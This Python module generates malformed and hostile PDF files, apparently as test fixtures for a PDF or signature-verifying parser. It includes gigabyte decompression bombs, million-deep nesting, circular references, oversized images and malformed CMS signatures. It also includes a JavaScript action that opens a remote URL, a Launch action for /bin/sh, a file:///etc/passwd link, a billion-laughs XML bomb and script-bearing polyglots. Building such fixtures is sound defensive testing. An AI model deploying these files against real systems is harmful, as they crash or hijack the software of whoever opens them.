"""Makes PDFs that crash, hang, unfold or mislead the programs that open them.

Each is written from scratch, byte by byte: no tool writes such files. All are small; what they
unfold to is not.
"""

from __future__ import annotations

import zlib
from collections.abc import Callable, Iterator

GIB = 1 << 30
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"


def zeros(size: int) -> bytes:
    """A zlib stream that unfolds to so many zeros, without ever holding them."""
    packer = zlib.compressobj(9, wbits=-15)
    block = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    # Adler-32 of zeros: the first sum stays 1, the second counts them.
    check = (size % 65521) << 16 | 1
    return b"\x78\xda" + block * (size >> 20) + b"\x03\x00" + check.to_bytes(4)


def stream(content: bytes, entries: bytes = b"/Filter/FlateDecode") -> bytes:
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (entries, len(content), content)


def pdf(
    *objects: bytes, root: bytes = b"<</Type/Catalog/Pages 2 0 R>>", trailer: bytes = b""
) -> bytes:
    """Put objects 1 (root), 2, 3 … together with a table of where they are."""
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate((root, *objects), 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(places) + 1,
        trailer,
        start,
    )
    return bytes(out)


def page(entries: bytes = b"", box: bytes = b"0 0 595 842") -> bytes:
    return b"<</Type/Page/Parent 2 0 R/MediaBox[%s]%s>>" % (box, entries)


def drawn(
    content: bytes, resources: bytes = b"", *more: bytes, box: bytes = b"0 0 595 842"
) -> bytes:
    entries = b"/Contents 4 0 R/Resources<<%s>>" % resources
    return pdf(PAGES, page(entries, box), stream(zlib.compress(content)), *more)


def attached(name: bytes, file: bytes, *more: bytes) -> bytes:
    """A PDF with one attachment, whose stream is object 5."""
    root = b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(%s) 4 0 R]>>>>>>" % name
    spec = b"<</Type/Filespec/F(%s)/UF(%s)/EF<</F 5 0 R>>>>" % (name, name)
    return pdf(PAGES, page(), spec, file, *more, root=root)


def bombs() -> Iterator[tuple[str, bytes]]:
    gigabyte = zeros(GIB)
    yield "page-content-1-gib", pdf(PAGES, page(b"/Contents 4 0 R"), stream(gigabyte))
    twice = b"/Filter[/FlateDecode/FlateDecode]"
    yield (
        "content-packed-twice",
        pdf(PAGES, page(b"/Contents 4 0 R"), stream(zlib.compress(gigabyte, 9), twice)),
    )
    many = b"/Filter[" + b"/FlateDecode" * 64 + b"]"
    yield "content-of-64-filters", pdf(PAGES, page(b"/Contents 4 0 R"), stream(gigabyte, many))
    yield "attachment-1-gib", attached(b"record.json", stream(gigabyte))
    yield "proof-1-gib", attached(b"certificate.tlog-proof", stream(gigabyte))
    yield (
        "attachment-of-runs",
        attached(b"record.json", stream(b"\x81\x00" * 4_000_000, b"/Filter/RunLengthDecode")),
    )
    yield "lzw-attachment", attached(b"record.json", stream(bytes(8_000_000), b"/Filter/LZWDecode"))
    yield (
        "object-stream-1-gib",
        pdf(PAGES, page(), stream(gigabyte, b"/Type/ObjStm/N 1000000/First 10/Filter/FlateDecode")),
    )
    yield "xref-stream-1-gib", _xref_stream(gigabyte, b"/Size 100000000/W[1 8 8]")
    yield (
        "xref-stream-predictor",
        _xref_stream(gigabyte, b"/Size 9/W[1 4 2]/DecodeParms<</Predictor 12/Columns 2000000000>>"),
    )
    image = (
        b"/Type/XObject/Subtype/Image/Width 65000/Height 65000/BitsPerComponent 8"
        b"/ColorSpace/DeviceRGB/Filter/FlateDecode"
    )
    yield (
        "image-of-4-gigapixels",
        drawn(b"500 0 0 500 0 0 cm /I Do", b"/XObject<</I 5 0 R>>", stream(gigabyte, image)),
    )


def _xref_stream(content: bytes, entries: bytes) -> bytes:
    head = b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
    body = stream(content, b"/Type/XRef/Root 1 0 R/Filter/FlateDecode" + entries)
    return head + b"9 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (body, len(head))


def nests() -> Iterator[tuple[str, bytes]]:
    deep = 1_000_000
    yield "arrays-a-million-deep", pdf(PAGES, page(), b"[" * deep + b"]" * deep)
    yield "arrays-left-open", pdf(PAGES, page(b"/X " + b"[" * deep))
    yield "dictionaries-deep", pdf(PAGES, page(), b"<</A" * 200_000 + b" 1" + b">>" * 200_000)
    yield "parentheses-deep", pdf(PAGES, page(b"/X " + b"(" * deep))
    yield "content-deep", drawn(b"q " * deep)
    yield "pages-in-a-circle", pdf(b"<</Type/Pages/Kids[2 0 R]/Count 1>>", page())
    yield (
        "pages-that-double",
        pdf(
            *(
                b"<</Type/Pages/Kids[%d 0 R %d 0 R]/Count 1073741824>>" % (number + 1, number + 1)
                for number in range(2, 32)
            ),
            page(),
        ),
    )
    names = b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles 4 0 R>>>>"
    yield "names-in-a-circle", pdf(PAGES, page(), b"<</Kids[4 0 R]>>", root=names)
    yield (
        "names-that-double",
        pdf(
            PAGES,
            page(),
            *(b"<</Kids[%d 0 R %d 0 R]>>" % (number + 1, number + 1) for number in range(4, 40)),
            b"<</Names[]>>",
            root=names,
        ),
    )
    yield (
        "a-hundred-thousand-names",
        pdf(PAGES, page(), b"<</Names[%s]>>" % (b"(a) 3 0 R " * 100_000), root=names),
    )
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F 5 0 R>>>>"
    yield (
        "form-that-draws-itself",
        drawn(b"/F Do", b"/XObject<</F 5 0 R>>", stream(b"/F Do " * 50, form)),
    )
    yield (
        "length-that-names-itself",
        pdf(PAGES, page(b"/Contents 4 0 R"), b"<</Length 4 0 R>>stream\nx\nendstream"),
    )
    yield "xref-in-a-circle", _again(b"/Prev 9")
    yield "a-million-objects", pdf(PAGES, page(), *[b"1"] * 300_000)
    yield "size-of-two-thousand-million", pdf(PAGES, page(), trailer=b"/Size 2147483647")


def _again(entries: bytes) -> bytes:
    """A PDF whose table of places says that an earlier one stands where it stands itself."""
    whole = pdf(PAGES, page(), trailer=entries)
    start = int(whole.split(b"startxref\n")[1].split(b"\n")[0])
    return whole.replace(b"/Prev 9", b"/Prev %d" % start)


def drawings() -> Iterator[tuple[str, bytes]]:
    yield "page-as-large-as-a-field", drawn(b"0 0 9 9 re f", box=b"0 0 1e9 1e9")
    yield "page-of-no-size", drawn(b"0 0 9 9 re f", box=b"0 0 0 0")
    yield "page-of-no-number", drawn(b"0 0 9 9 re f", box=b"0 0 NaN 1e999")
    yield "millions-of-lines", drawn(b"0 0 m " + b"500 700 l 3 9 l " * 700_000 + b"S")
    yield "dashes-without-end", drawn(b"[0.00001] 0 d 0 0 m 595 842 l S " * 2000)
    tile = (
        b"/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 .01 .01]"
        b"/XStep .001/YStep .001/Resources<<>>/Filter/FlateDecode"
    )
    yield (
        "tiles-without-number",
        drawn(
            b"/Pattern cs /P scn 0 0 595 842 re f",
            b"/Pattern<</P 5 0 R>>",
            stream(zlib.compress(b"0 0 .01 .01 re f"), tile),
        ),
    )
    program = b"/FunctionType 4/Domain[0 1]/Range[0 1 0 1 0 1]"
    shade = b"<</ShadingType 1/ColorSpace/DeviceRGB/Function 6 0 R/Domain[0 1e9 0 1e9]>>"
    yield (
        "shading-by-a-long-program",
        drawn(
            b"/S sh",
            b"/Shading<</S 5 0 R>>",
            shade,
            stream(b"{ " + b"dup mul sqrt " * 200_000 + b"dup dup }", program),
        ),
    )
    group = b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Group<</S/Transparency/I true>>"
    levels = 24
    yield (
        "transparency-upon-transparency",
        drawn(
            b"/F5 Do",
            b"/XObject<</F5 5 0 R>>",
            *(
                stream(
                    zlib.compress(b"/F%d Do /F%d Do" % (number + 1, number + 1)),
                    group
                    + b"/Filter/FlateDecode/Resources<</XObject<</F%d %d 0 R>>>>"
                    % (number + 1, number + 1),
                )
                for number in range(5, 5 + levels)
            ),
            stream(zlib.compress(b"0 0 9 9 re f"), group + b"/Filter/FlateDecode"),
        ),
    )


def signatures() -> Iterator[tuple[str, bytes]]:
    def signed(byte_range: bytes, contents: bytes, count: int = 1) -> bytes:
        root = b"<</Type/Catalog/Pages 2 0 R/AcroForm<</SigFlags 3/Fields[%s]>>>>" % (
            b" ".join(b"%d 0 R" % (4 + 2 * number) for number in range(count))
        )
        fields = []
        for number in range(count):
            fields += [
                b"<</FT/Sig/T(s%d)/V %d 0 R/Subtype/Widget/Rect[0 0 0 0]>>"
                % (number, 5 + 2 * number),
                b"<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/ETSI.CAdES.detached"
                b"/ByteRange[%s]/Contents<%s>>>" % (byte_range, contents),
            ]
        return pdf(PAGES, page(), *fields, root=root)

    sane = b"0 100 200 300"
    yield "thousands-of-seals", signed(sane, b"00", 5000)
    yield "seal-range-below-nothing", signed(b"-1 -100 -200 -300", b"00")
    yield "seal-range-beyond-everything", signed(b"0 99999999999999999999 1 1", b"00")
    yield "seal-range-of-words", signed(b"/A /B null (x)", b"00")
    yield "seal-of-eight-megabytes", signed(sane, b"30" * 4_000_000)
    # Lengths that point outwards, and a thousand sequences within each other.
    yield "seal-cms-deep", signed(sane, b"3080" * 100_000)
    yield "seal-cms-long", signed(sane, b"3084ffffffff" + b"00" * 64)
    yield "seal-cms-oid", signed(sane, b"06" + b"83ffffff" + b"ff" * 100_000)


def misleading(genuine: bytes) -> Iterator[tuple[str, bytes]]:
    yield "head-alone", b"%PDF-1.7"
    yield "sixteen-megabytes-of-head", b"%PDF-" * (3 << 20)
    yield "sixteen-megabytes-of-noise", b"%PDF-1.7\n" + bytes(range(256)) * 60_000
    for part in (1, 2, 3):
        yield f"cut-at-{part}-quarters", genuine[: len(genuine) * part // 4]
    yield "without-its-end", genuine[:-40]
    yield (
        "encrypted",
        pdf(
            PAGES,
            page(),
            trailer=b"/ID[<00><00>]/Encrypt<</Filter/Standard/V 2/R 3/Length 128/P -1/O(%s)/U(%s)>>"
            % (b"x" * 32, b"y" * 32),
        ),
    )
    script = b"/OpenAction<</S/JavaScript/JS(app.launchURL\\('http://198.51.100.1/'\\))>>"
    yield "with-a-script", pdf(PAGES, page(), root=b"<</Type/Catalog/Pages 2 0 R%s>>" % script)
    launch = b"/OpenAction<</S/Launch/F(/bin/sh)>>/AA<</WC<</S/URI/URI(file:///etc/passwd)>>>>"
    yield "with-a-launch", pdf(PAGES, page(), root=b"<</Type/Catalog/Pages 2 0 R%s>>" % launch)
    laughs = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">' + b"".join(
        b'<!ENTITY %c "%s">' % (97 + level, b"&%c;" % (96 + level) * 10) for level in range(1, 20)
    )
    yield (
        "laughing-metadata",
        pdf(
            PAGES,
            page(),
            stream(laughs + b"]><l>&t;</l>", b"/Type/Metadata/Subtype/XML"),
            root=b"<</Type/Catalog/Pages 2 0 R/Metadata 4 0 R>>",
        ),
    )
    yield (
        "two-records-of-one-name",
        pdf(
            PAGES,
            page(),
            b"<</Type/Filespec/F(record.json)/UF(record.json)/EF<</F 5 0 R>>>>",
            stream(b"{}", b""),
            root=b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names"
            b"[(record.json) 4 0 R (record.json) 4 0 R]>>>>>>",
        ),
    )
    nested = b'{"a":' * 40_000 + b"1" + b"}" * 40_000
    yield "record-of-nested-json", attached(b"record.json", stream(zlib.compress(nested)))
    yield "pdf-that-is-a-zip-too", genuine + b"PK\x05\x06" + bytes(18)
    yield "pdf-that-is-a-page-too", b"%PDF-1.7<script>alert(1)</script>" + genuine
    yield "genuine-and-a-second-body", genuine + pdf(PAGES, page())


FAMILIES: tuple[Callable[[], Iterator[tuple[str, bytes]]], ...] = (
    bombs,
    nests,
    drawings,
    signatures,
)
